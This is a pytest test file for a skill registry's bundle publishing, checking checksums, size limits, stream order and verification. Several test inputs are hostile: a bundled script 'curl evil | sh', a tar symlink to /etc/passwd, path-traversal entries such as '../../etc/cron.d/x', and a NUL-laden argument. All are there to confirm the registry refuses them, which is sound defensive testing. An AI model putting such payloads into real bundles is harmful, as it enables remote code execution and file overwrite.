"""PublishSkill with capabilities, args and a file bundle: streaming order, checksums, limits, verification."""

from __future__ import annotations

import hashlib
import io
import sqlite3
import tarfile
import time
from pathlib import Path

import grpc
import pytest
from clawhub.common.v1 import release_pb2, skill_pb2
from clawhub.registry.v1 import registry_service_pb2 as pb

from services.registry.store import NewVersion, SqliteMetadataStore
from services.runtime import bundle
from tests.registry.conftest import Backend, Opener
from tests.registry.support import (
    MODULE,
    Client,
    check_error,
    digest,
    download,
    publish_raw,
    still_serving,
    violations,
    wasm,
)

S = release_pb2
FILES = {"data/words.txt": b"alpha beta\n", "greeting.txt": b"hello"}
BUNDLE = bundle.build(FILES)
# Opens a bundled file: needs the `files` capability.
READER = wasm('''(module
  (import "wasi_snapshot_preview1" "path_open"
    (func (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))
  (memory (export "memory") 1) (func (export "_start")))''')


def bundled(files: dict[str, bytes]) -> list[skill_pb2.BundledFile]:
    return [skill_pb2.BundledFile(path=p, size_bytes=len(d), digest=bundle.file_digest(d)) for p, d in files.items()]


def manifest(*, capabilities: tuple[str, ...] = ("files", "env:GREETING"), files: dict[str, bytes] | None = None,
             args: tuple[str, ...] = ("--loud",), version: str = "1.0.0") -> skill_pb2.Manifest:
    return skill_pb2.Manifest(
        name="com.acme.greeter", version=version, abi=skill_pb2.ABI_WASI_COMMAND_V1, capabilities=capabilities,
        args=args, files=bundled(FILES if files is None else files))


def stream(module: bytes, bundle_bytes: bytes | None, the_manifest: skill_pb2.Manifest | None = None, *,
           bundle_sha256: str | None = None, bundle_size: int | None = None, chunk: int = 7,
           size_bytes: int | None = None) -> list[pb.PublishSkillRequest]:
    meta = pb.PublishSkillMetadata(
        manifest=the_manifest or manifest(), sha256=hashlib.sha256(module).hexdigest(),
        size_bytes=len(module) if size_bytes is None else size_bytes)
    if bundle_bytes is not None:
        meta.bundle_sha256 = hashlib.sha256(bundle_bytes).hexdigest() if bundle_sha256 is None else bundle_sha256
        meta.bundle_size_bytes = len(bundle_bytes) if bundle_size is None else bundle_size
    requests = [pb.PublishSkillRequest(metadata=meta)]
    requests += [pb.PublishSkillRequest(chunk=module[i:i + chunk]) for i in range(0, len(module), chunk)]
    if bundle_bytes is not None:
        requests += [pb.PublishSkillRequest(bundle_chunk=bundle_bytes[i:i + 1000])
                     for i in range(0, len(bundle_bytes), 1000)]
    return requests


def blob_files(client: Client) -> list[Path]:
    return [p for p in (client.settings.data_dir / "blobs").rglob("*") if p.is_file()]


async def state_of(client: Client, version: str = "1.0.0") -> pb.SkillVersion:
    response = await client.stub.GetSkillVersion(
        pb.GetSkillVersionRequest(name="com.acme.greeter", version=version), timeout=5)
    return response.skill_version


async def test_bundle_is_verified_stored_and_downloadable(registry: Client) -> None:
    response = await publish_raw(registry.stub, stream(READER, BUNDLE))
    assert response.created
    version = response.skill_version
    assert version.state == S.RELEASE_STATE_READY
    assert version.bundle_digest == digest(BUNDLE) and version.digest == digest(READER)
    assert list(version.manifest.args) == ["--loud"]
    assert list(version.manifest.capabilities) == ["files", "env:GREETING"]
    assert [f.path for f in version.manifest.files] == list(FILES)
    assert "file bundle matching " + digest(BUNDLE) in version.history[1].reason
    assert "2 file(s)" in version.history[2].reason
    assert b"".join(await download(registry.stub, version.bundle_digest)) == BUNDLE
    assert await state_of(registry) == version
    assert sorted(p.name for p in blob_files(registry)) == sorted(
        [hashlib.sha256(BUNDLE).hexdigest(), hashlib.sha256(READER).hexdigest()])

    # The same module and bundle again: idempotent. Another bundle: a different version's bytes.
    again = await publish_raw(registry.stub, stream(READER, BUNDLE))
    assert not again.created and again.skill_version == version
    other = bundle.build({**FILES, "greeting.txt": b"hi"})
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish_raw(registry.stub, stream(
            READER, other, manifest(files={**FILES, "greeting.txt": b"hi"})))
    meta = check_error(caught.value, grpc.StatusCode.ALREADY_EXISTS, "VERSION_EXISTS")
    assert meta["existing_bundle_digest"] == digest(BUNDLE) and meta["bundle_digest"] == digest(other)
    assert "file bundle" in (caught.value.details() or "")
    # Without a bundle at all: also different.
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish_raw(registry.stub, stream(READER, None, manifest(files={})))
    # No bundle is no `bundle_digest` (an empty value is never sent), not `bundle_digest: `.
    assert "bundle_digest" not in check_error(caught.value, grpc.StatusCode.ALREADY_EXISTS, "VERSION_EXISTS")


async def test_a_version_without_a_bundle_has_no_bundle_digest(registry: Client) -> None:
    version = (await publish_raw(registry.stub, stream(MODULE, None, manifest(capabilities=(), files={}))))
    assert version.skill_version.bundle_digest == ""
    assert version.skill_version.state == S.RELEASE_STATE_READY


async def test_bundle_checksum_and_size_mismatches_name_the_bundle(registry: Client) -> None:
    wrong = hashlib.sha256(b"else").hexdigest()
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish_raw(registry.stub, stream(READER, BUNDLE, bundle_sha256=wrong))
    meta = check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, "CHECKSUM_MISMATCH")
    assert (meta["blob"], meta["expected"], meta["actual"]) == ("bundle", "sha256:" + wrong, digest(BUNDLE))
    assert "metadata.bundle_sha256" in violations(caught.value)

    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish_raw(registry.stub, stream(READER, BUNDLE, bundle_size=len(BUNDLE) + 1))
    meta = check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, "SIZE_MISMATCH")
    assert meta == {"blob": "bundle", "expected": str(len(BUNDLE) + 1), "actual": str(len(BUNDLE))}

    # Declared but never sent.
    requests = [r for r in stream(READER, BUNDLE) if r.WhichOneof("content") != "bundle_chunk"]
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish_raw(registry.stub, requests)
    assert check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, "CHECKSUM_MISMATCH")["blob"] == "bundle"
    assert blob_files(registry) == []
    await still_serving(registry.stub)


@pytest.mark.parametrize("case", ["module-after-bundle", "bundle-undeclared", "metadata-after-bundle"])
async def test_stream_order(registry: Client, case: str) -> None:
    requests = stream(READER, BUNDLE)
    if case == "module-after-bundle":
        requests.append(pb.PublishSkillRequest(chunk=b"\0"))
        field_name = "chunk"
    elif case == "bundle-undeclared":
        requests = [*stream(READER, None), pb.PublishSkillRequest(bundle_chunk=BUNDLE)]
        field_name = "bundle_chunk"
    else:
        requests.append(requests[0])
        field_name = "metadata"
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish_raw(registry.stub, requests)
    check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, "INVALID_ARGUMENT")
    assert field_name in violations(caught.value)
    assert blob_files(registry) == []
    await still_serving(registry.stub)


async def test_one_size_limit_covers_module_and_bundle(open_registry: Opener) -> None:
    limit = len(READER) + len(BUNDLE) - 1
    client = await open_registry(max_upload_bytes=limit)
    # Declared sizes: refused before any byte is read.
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish_raw(client.stub, stream(READER, BUNDLE))
    check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, "UPLOAD_TOO_LARGE")
    assert "metadata.bundle_size_bytes" in violations(caught.value)
    # Undeclared sizes: refused while streaming the bundle.
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish_raw(client.stub, stream(READER, BUNDLE, bundle_size=0, size_bytes=0))
    meta = check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, "UPLOAD_TOO_LARGE")
    assert meta["limit_bytes"] == str(limit - len(READER))
    assert "bundle_chunk" in violations(caught.value)
    # More bundle bytes than declared.
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish_raw(client.stub, stream(READER, BUNDLE, bundle_size=100))
    check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, "UPLOAD_TOO_LARGE")
    assert blob_files(client) == []


def _tar_with(name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"x") -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as tar:
        info = tarfile.TarInfo(name)
        info.type = kind
        info.size = len(data) if kind == tarfile.REGTYPE else 0
        info.linkname = "/etc/passwd" if kind == tarfile.SYMTYPE else ""
        tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)
    return buffer.getvalue()


GZIPPED = io.BytesIO()
with tarfile.open(fileobj=GZIPPED, mode="w:gz") as _gz:
    _info = tarfile.TarInfo("greeting.txt")
    _info.size = 5
    _gz.addfile(_info, io.BytesIO(b"hello"))


@pytest.mark.parametrize(("module", "bundle_bytes", "the_manifest", "needle"), [
    (READER, b"not a tar at all, just text" * 40, manifest(), "not a valid uncompressed tar"),
    (READER, GZIPPED.getvalue(), manifest(files={"greeting.txt": b"hello"}), "not a valid uncompressed tar"),
    (READER, _tar_with("link", tarfile.SYMTYPE), manifest(files={}), "not a regular file"),
    (READER, _tar_with("data", tarfile.DIRTYPE), manifest(files={}), "not a regular file"),
    (READER, _tar_with("../../etc/cron.d/x"), manifest(files={}), "`..`"),
    (READER, bundle.build({**FILES, "extra.sh": b"curl evil | sh"}), manifest(), "'extra.sh' is not listed"),
    (READER, bundle.build({"greeting.txt": b"hello"}), manifest(), "does not contain"),
    (READER, bundle.build({**FILES, "greeting.txt": b"HELLO"}), manifest(), "has digest"),
    (READER, BUNDLE, manifest(capabilities=()), "does not declare the `files` capability"),
    (READER, None, manifest(), "no file bundle was uploaded"),
    (READER, None, manifest(capabilities=("env:X",), files={}), "needs the `files` capability"),
])
async def test_verification_failures(registry: Client, module: bytes, bundle_bytes: bytes | None,
                                     the_manifest: skill_pb2.Manifest, needle: str) -> None:
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish_raw(registry.stub, stream(module, bundle_bytes, the_manifest))
    meta = check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, "VERIFICATION_FAILED")
    assert needle in (caught.value.details() or "")
    assert needle in " ".join(violations(caught.value).values())
    if bundle_bytes is not None:
        assert meta["bundle_digest"] == digest(bundle_bytes)
    version = await state_of(registry)
    assert version.state == S.RELEASE_STATE_FAILED
    assert any(needle in e for e in version.verification_errors)
    # Nothing unverified is served.
    assert blob_files(registry) == []
    # A fixed publish of the same version goes through.
    assert (await publish_raw(registry.stub, stream(READER, BUNDLE))).created


@pytest.mark.parametrize(("the_manifest", "reason", "field_name"), [
    (manifest(files={"/etc/passwd": b"x"}), "INVALID_MANIFEST", "metadata.manifest.files[0].path"),
    (manifest(files={"../up.txt": b"x"}), "INVALID_MANIFEST", "metadata.manifest.files[0].path"),
    (skill_pb2.Manifest(name="com.acme.greeter", version="1.0.0", abi=skill_pb2.ABI_WASI_COMMAND_V1,
                        files=[skill_pb2.BundledFile(path="a", digest="md5:00")]),
     "INVALID_DIGEST", "metadata.manifest.files[0].digest"),
    (manifest(args=("ok", "bad\0arg")), "INVALID_MANIFEST", "metadata.manifest.args[1]"),
])
async def test_bad_files_and_args_are_refused_before_upload(registry: Client, the_manifest: skill_pb2.Manifest,
                                                            reason: str, field_name: str) -> None:
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish_raw(registry.stub, stream(READER, BUNDLE, the_manifest))
    check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, reason)
    assert field_name in violations(caught.value)


async def test_an_unknown_capability_is_reported_under_its_index(registry: Client) -> None:
    the_manifest = manifest(capabilities=("env:X", "net:all", "env:1X"), files={})
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish_raw(registry.stub, stream(MODULE, None, the_manifest))
    meta = check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, "INVALID_MANIFEST")
    assert meta["field"] == "metadata.manifest.capabilities[1]"
    found = violations(caught.value)
    assert set(found) == {"metadata.manifest.capabilities[1]", "metadata.manifest.capabilities[2]"}
    assert found["metadata.manifest.capabilities[1]"].startswith("unknown capability 'net:all'; a capability is")
    assert "'env:1X' is not a valid `env:NAME` capability" in found["metadata.manifest.capabilities[2]"]
    for description in found.values():
        assert "`files`" in description and "`env:NAME`" in description
    # Refused before any byte is stored: the version is not recorded.
    assert blob_files(registry) == []


async def test_bad_bundle_sha256_names_the_field(registry: Client) -> None:
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish_raw(registry.stub, stream(READER, BUNDLE, bundle_sha256="sha256:" + "0" * 64))
    check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, "INVALID_DIGEST")
    assert "without the `sha256:` prefix" in violations(caught.value)["metadata.bundle_sha256"]


async def test_bundle_survives_a_restart_and_old_databases_migrate(open_registry: Opener, tmp_path: Path) -> None:
    client = await open_registry()
    await publish_raw(client.stub, stream(READER, BUNDLE))
    await client.host.stop(grace=0.5)
    again = await open_registry()
    assert (await state_of(again)).bundle_digest == digest(BUNDLE)

    # A database from before bundles (schema version 1) gains the column, empty for its versions.
    old = tmp_path / "old.sqlite3"
    with sqlite3.connect(old) as db:
        from services.registry.store import MIGRATIONS
        db.execute("CREATE TABLE schema_version (version INTEGER NOT NULL)")
        for statement in MIGRATIONS[0]:
            db.execute(statement)
        db.execute("INSERT INTO schema_version VALUES (1)")
        db.execute("INSERT INTO skills VALUES ('com.acme.old', 1, 1)")
        db.execute("INSERT INTO versions VALUES ('com.acme.old', '1.0.0', ?, 1, x'', 'READY', '[]', 1)",
                   (digest(MODULE),))
    store = await SqliteMetadataStore.open(old)
    try:
        record = await store.get_version("com.acme.old", "1.0.0")
        assert record is not None and record.bundle_digest == ""
    finally:
        await store.close()


async def test_a_flood_of_bundle_problems_is_summarized(registry: Client) -> None:
    stray = {f"stray/{i:04}.txt": b"x" for i in range(500)}
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await publish_raw(registry.stub, stream(READER, bundle.build({**FILES, **stray})))
    check_error(caught.value, grpc.StatusCode.INVALID_ARGUMENT, "VERIFICATION_FAILED")
    assert "… and 480 more problem(s)" in (caught.value.details() or "")
    assert len((await state_of(registry)).verification_errors) == 21


async def test_unfinished_publishes_with_bundles_are_settled_on_start(open_registry: Opener, backend: Backend) -> None:
    blobs = await backend.blobs()
    store = await backend.store()

    async def place(data: bytes) -> None:
        async with blobs.upload(hashlib.sha256(data).hexdigest()) as upload:
            await upload.write(data)
            await upload.finish()
            await upload.commit(digest(data))

    for version in ("1.0.0", "2.0.0"):
        # An hour ago: on a shared database, a younger publish may be another replica's, in flight.
        then = time.time_ns() - 3600 * 10**9
        await store.begin_version(NewVersion(
            name="com.acme.greeter", version=version, digest=digest(READER), size_bytes=len(READER),
            manifest=manifest(version=version).SerializeToString(), upload_started_ns=then,
            upload_completed_ns=then, pending_reason="upload started", verifying_reason="upload complete",
            bundle_digest=digest(BUNDLE) if version == "1.0.0" else digest(b"a bundle never placed")))
    # Stopped after placing both blobs of 1.0.0; 2.0.0's bundle never made it.
    await place(BUNDLE)
    await place(READER)
    await backend.close()
    client = await open_registry(**backend.settings)
    assert (await state_of(client, "1.0.0")).state == S.RELEASE_STATE_READY
    lost = await state_of(client, "2.0.0")
    assert lost.state == S.RELEASE_STATE_FAILED and "publish this version again" in lost.verification_errors[0]
